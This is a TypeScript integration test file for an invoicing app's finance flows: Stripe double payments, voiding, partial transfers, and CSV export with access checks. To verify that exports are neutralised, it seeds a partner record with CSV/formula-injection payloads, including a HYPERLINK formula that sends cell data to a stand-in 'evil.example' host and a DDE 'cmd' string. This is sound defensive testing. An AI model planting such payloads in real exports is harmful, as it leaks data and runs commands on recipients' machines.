import Stripe from "stripe";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { formatEuros } from "~/utils/format.ts";
import { HttpClient, queryApp } from "../support/http-client.ts";

// Finance runs a partner's invoice over HTTP, the worker issues it through the
// SDK to the Stripe double, the partner pays on the hosted page, and the
// double's signed webhook brings the payment back: the built app, its worker
// and the double, as in the demo.
let finance: HttpClient;
let target: { organisationId: string; name: string; month: string };

async function until<T>(read: () => Promise<T>, done: (v: T) => boolean, timeoutMs = 30_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await read();
    if (done(value) || Date.now() > deadline) return value;
    await new Promise((r) => setTimeout(r, 200));
  }
}

beforeAll(async () => {
  finance = await new HttpClient().login("finance@conciergerie.example");
  // The latest month in which a partner has completed, not yet invoiced work with hours recorded.
  const [row] = await queryApp<{ organisationId: string; name: string; month: string }>(
    `SELECT i."organisationId", o.name, to_char(i."startsAt" AT TIME ZONE 'Europe/Paris', 'YYYY-MM') AS month
     FROM "Intervention" i JOIN "Organisation" o ON o.id = i."organisationId"
     WHERE i.status = 'DONE' AND o.kind = 'PARTNER' AND EXISTS (SELECT 1 FROM "TimeEntry" t WHERE t."interventionId" = i.id AND NOT t.absent)
       AND NOT EXISTS (SELECT 1 FROM "InvoiceLine" l WHERE l."interventionId" = i.id)
     ORDER BY i."startsAt" DESC LIMIT 1`,
  );
  target = row!;
  // What a partner may type on the order form and the site form, waiting in the lines export for finance's spreadsheet.
  await queryApp(`UPDATE "ServiceRequest" SET "purchaseOrderNumber" = $1 WHERE "organisationId" = $2`, [HOSTILE_PO, target.organisationId]);
  siteNames = await queryApp<{ id: string; name: string }>(`SELECT id, name FROM "Site" WHERE "organisationId" = $1`, [target.organisationId]);
  await queryApp(`UPDATE "Site" SET name = $1 WHERE "organisationId" = $2`, [HOSTILE_SITE, target.organisationId]);
});

const HOSTILE_PO = '=HYPERLINK("http://evil.example/?"&A1,"BC 42")';
const HOSTILE_SITE = "@SUM(1+1)*cmd|' /C calc'!A0; quai";
let siteNames: { id: string; name: string }[] = [];
afterAll(async () => {
  for (const site of siteNames) await queryApp(`UPDATE "Site" SET name = $1 WHERE id = $2`, [site.name, site.id]);
});

async function runStep(step: "prepare" | "issue") {
  const response = await finance.post(
    "/finance",
    { intent: step, month: target.month, organisationId: target.organisationId, runKey: `http-${step}-${Date.now()}`, early: "on" },
    { from: "/finance" },
  );
  expect(response.status).toBe(302);
  const location = response.headers.get("location")!;
  const jobId = new URL(location, "http://x").searchParams.get("run")!;
  const status = await until(
    async () => (await (await finance.get(`/finance/runs/${jobId}`)).json()) as { state: string; progress: number; result: Record<string, unknown> | null },
    (s) => s.state === "completed" || s.state === "failed",
  );
  expect(status.state).toBe("completed");
  expect(status.progress).toBe(100);
  return status.result!;
}

describe("invoicing over HTTP, through the Stripe double", () => {
  it("prepares a draft shown in preview, issues it to Stripe, and a payment on the hosted page comes back by webhook", async () => {
    const prepared = await runStep("prepare");
    expect(prepared.drafts).toBe(1);
    const [draft] = await queryApp<{ id: string; status: string; number: string | null; totalInclVatCents: number }>(
      `SELECT id, status, number, "totalInclVatCents" FROM "Invoice" WHERE "organisationId" = $1 AND "periodStart" = $2::date`,
      [target.organisationId, `${target.month}-01`],
    );
    expect(draft).toMatchObject({ status: "DRAFT", number: null });
    const preview = await (await finance.get(`/finance/invoices/${draft!.id}`)).text();
    expect(preview).toContain("Aperçu du brouillon");
    expect(preview).toContain("Total TTC");

    await runStep("issue");
    const [issued] = await queryApp<{ status: string; number: string; stripeInvoiceId: string; hostedInvoiceUrl: string }>(
      `SELECT status, number, "stripeInvoiceId", "hostedInvoiceUrl" FROM "Invoice" WHERE id = $1`,
      [draft!.id],
    );
    expect(issued).toMatchObject({ status: expect.stringMatching(/^(OPEN|PAID)$/) });
    expect(issued!.number).toMatch(/^F\d{4}-\d{5}$/);
    expect(issued!.stripeInvoiceId).toMatch(/^in_/);

    // The partner pays on Stripe's page (the double's button); the webhook is signed and verified by the app.
    const page = await fetch(issued!.hostedInvoiceUrl);
    expect(await page.text()).toContain(issued!.number);
    const paid = await fetch(`${inject("stripeDoubleUrl")}/_double/invoices/${issued!.stripeInvoiceId}/pay`, { method: "POST", redirect: "manual" });
    expect(paid.status).toBe(303);
    const final = await until(
      async () => (await queryApp<{ status: string }>(`SELECT status FROM "Invoice" WHERE id = $1`, [draft!.id]))[0]!,
      (r) => r.status === "PAID",
    );
    expect(final.status).toBe("PAID");
    const payments = await queryApp(`SELECT 1 FROM "Payment" WHERE "invoiceId" = $1 AND method = 'stripe'`, [draft!.id]);
    expect(payments).toHaveLength(1);
    const audited = await queryApp<{ action: string }>(`SELECT action FROM "AuditLog" WHERE action LIKE 'invoic%' ORDER BY id`);
    expect(audited.map((a) => a.action)).toEqual(expect.arrayContaining(["invoicing.prepare_requested", "invoicing.issue_requested", "invoice.numbered", "invoice.issued", "invoice.status_changed"]));
  });

  it("voids only with a reason and a confirmation, by a credit note, and the audit log says it in French with the reason", async () => {
    const [open] = await queryApp<{ id: string; number: string }>(
      `SELECT id, number FROM "Invoice" i WHERE status = 'OPEN' AND kind = 'INVOICE' AND NOT EXISTS (SELECT 1 FROM "Payment" p WHERE p."invoiceId" = i.id)
         AND i."organisationId" NOT IN (SELECT id FROM "Organisation" WHERE name LIKE 'SNCF%') ORDER BY "issuedAt" DESC LIMIT 1`,
    );
    expect(open, "an issued, unpaid invoice").toBeDefined();
    const path = `/finance/invoices/${open!.id}`;
    const page = await (await finance.get(path)).text();
    expect(page).toContain("Annuler la facture…");
    expect(page).toContain("Motif de l&#x27;annulation (communiqué au partenaire)");

    // One click is not enough: no reason, no confirmation, nothing changes.
    const bare = await finance.post(path, { intent: "void" }, { from: path });
    expect(bare.status).toBe(400);
    const bareText = await bare.text();
    expect(bareText).toContain("Indiquez le motif de l&#x27;annulation.");
    expect(bareText).toContain("Cochez la case pour confirmer l&#x27;annulation.");
    const unconfirmed = await finance.post(path, { intent: "void", reason: "Doublon de la facture de novembre" }, { from: path });
    expect(unconfirmed.status).toBe(400);
    expect((await queryApp<{ status: string }>(`SELECT status FROM "Invoice" WHERE id = $1`, [open!.id]))[0]!.status).toBe("OPEN");

    const done = await finance.post(path, { intent: "void", reason: "Doublon de la facture de novembre", confirm: "on" }, { from: path });
    expect(done.status).toBe(200);
    expect(await done.text()).toMatch(new RegExp(`Facture ${open!.number} annulée par l&#x27;avoir A\\d{4}-\\d{5}`));
    const [row] = await queryApp<{ status: string; voidReason: string; notes: string }>(
      `SELECT status, "voidReason", (SELECT count(*)::text FROM "CreditNote" c WHERE c."invoiceId" = i.id AND c.reason LIKE 'Annulation%') AS notes FROM "Invoice" i WHERE id = $1`,
      [open!.id],
    );
    expect(row).toEqual({ status: "VOID", voidReason: "Doublon de la facture de novembre", notes: "1" });

    const admin = await new HttpClient().login("admin@conciergerie.example");
    const audit = await (await admin.get(`/admin/audit?entity=${open!.id}`)).text();
    expect(audit).toContain("Facture annulée par un avoir");
    expect(audit).toContain("Motif : Doublon de la facture de novembre");
  });

  it("a partner sees what is still due on each invoice, in the list and on the invoice's page, after a partial transfer", async () => {
    const [open] = await queryApp<{ id: string; number: string; total: number }>(
      `SELECT i.id, i.number, i."totalInclVatCents" AS total FROM "Invoice" i JOIN "Organisation" o ON o.id = i."organisationId"
       WHERE o.name LIKE 'SNCF%' AND i.status = 'OPEN' AND i.kind = 'INVOICE' AND i."totalInclVatCents" > 2000
         AND NOT EXISTS (SELECT 1 FROM "Payment" p WHERE p."invoiceId" = i.id) AND NOT EXISTS (SELECT 1 FROM "CreditNote" c WHERE c."invoiceId" = i.id)
       ORDER BY i."issuedAt" LIMIT 1`,
    );
    expect(open, "an open SNCF invoice").toBeDefined();
    const path = `/finance/invoices/${open!.id}`;
    const transfer = await finance.post(path, { intent: "transfer", amount: "10,00", reference: "VIR-PARTIEL", receivedAt: new Date().toISOString().slice(0, 10) }, { from: path });
    expect(transfer.status).toBe(200);
    const due = formatEuros(open!.total - 1000);
    const htmlEscaped = (s: string) => s.replace(/'/g, "&#x27;");

    const partner = await new HttpClient().login("agent@sncf.example");
    const list = await (await partner.get("/invoices")).text();
    expect(list).toContain("Reste à payer");
    const row = list.slice(list.indexOf(`/invoices/${open!.id}`), list.indexOf("</tr>", list.indexOf(`/invoices/${open!.id}`)));
    expect(row).toContain(htmlEscaped(due));
    expect(row).toContain(htmlEscaped(`${formatEuros(1000)} reçus`));

    const page = await (await partner.get(`/invoices/${open!.id}`)).text();
    expect(page).toContain(`Facture ${open!.number}`);
    expect(page).toContain("Déjà reçu");
    expect(page).toContain(htmlEscaped(formatEuros(1000)));
    expect(page).toMatch(new RegExp(`Reste à payer</dt><dd><strong>${htmlEscaped(due)}</strong>`));
    expect(page).toContain("VIR-PARTIEL");
    // Another partner does not find it.
    const other = await new HttpClient().login("contact@monjardinchocolate.example");
    expect((await other.get(`/invoices/${open!.id}`)).status).toBe(404);
  });

  it("answers a webhook with a bad signature 400 and stores nothing", async () => {
    const payload = JSON.stringify({ id: "evt_http_forged", object: "event", type: "invoice.paid", data: { object: { id: "in_x" } } });
    const forged = Stripe.webhooks.generateTestHeaderString({ payload, secret: "whsec_not_the_right_one" });
    const response = await fetch(`${inject("appUrl")}/webhooks/stripe`, { method: "POST", body: payload, headers: { "Stripe-Signature": forged, "Content-Type": "application/json" } });
    expect(response.status).toBe(400);
    expect(await queryApp(`SELECT 1 FROM "StripeEvent" WHERE id = 'evt_http_forged'`)).toHaveLength(0);
  });

  it("shows a partner its own invoices only, with the link to pay", async () => {
    const mine = await queryApp<{ number: string }>(`SELECT number FROM "Invoice" WHERE "organisationId" = $1 AND number IS NOT NULL`, [target.organisationId]);
    const others = await queryApp<{ number: string }>(`SELECT number FROM "Invoice" WHERE "organisationId" <> $1 AND number IS NOT NULL`, [target.organisationId]);
    const [member] = await queryApp<{ email: string }>(`SELECT u.email FROM "User" u JOIN "Membership" m ON m."userId" = u.id WHERE m."organisationId" = $1 LIMIT 1`, [target.organisationId]);
    const partner = await new HttpClient().login(member!.email);
    const page = await (await partner.get("/invoices")).text();
    for (const i of mine) expect(page).toContain(i.number);
    for (const i of others) expect(page).not.toContain(i.number);
  });

  it("exports the year's invoices and lines as CSV for finance only, audited", async () => {
    const year = target.month.slice(0, 4);
    const response = await finance.get(`/finance/export.csv?what=invoices&year=${year}`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/text\/csv/);
    const csv = await response.text();
    expect(csv.split("\r\n")[0]).toContain("numero;type;partenaire");
    expect(csv).toMatch(/F\d{4}-\d{5}/);
    const lines = await (await finance.get(`/finance/export.csv?what=lines&year=${year}`)).text();
    expect(lines.split("\r\n").length).toBeGreaterThan(2);
    // The partner's purchase-order number and site name arrive neutralised: text, never a formula.
    expect(lines).toContain(`"'${HOSTILE_PO.replace(/"/g, '""')}"`);
    expect(lines).toContain(`· ${HOSTILE_SITE} ·`);
    const cells = lines
      .split("\r\n")
      .flatMap((line) => line.split(";"))
      .map((cell) => cell.replace(/^"/, ""));
    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(,\d+)?$)/.test(cell))).toEqual([]);
    const partner = await new HttpClient().login("agent@sncf.example");
    expect((await partner.get(`/finance/export.csv?what=invoices&year=${year}`)).status).toBe(403);
    expect(await queryApp(`SELECT 1 FROM "AuditLog" WHERE action = 'invoicing.exported'`)).not.toHaveLength(0);
  });

  it("refuses finance actions to other roles and to a form without its CSRF token", async () => {
    const coordinator = await new HttpClient().login("coordination@conciergerie.example");
    const fields = { intent: "prepare", month: target.month, runKey: "refused-run-0001" };
    expect((await coordinator.post("/finance", fields, { from: "/" })).status).toBe(403);
    expect((await finance.post("/finance", fields, { csrf: null })).status).toBe(403);
    expect(await queryApp(`SELECT 1 FROM "OutboxEvent" WHERE "businessKey" LIKE '%refused-run-0001%'`)).toHaveLength(0);
  });
});
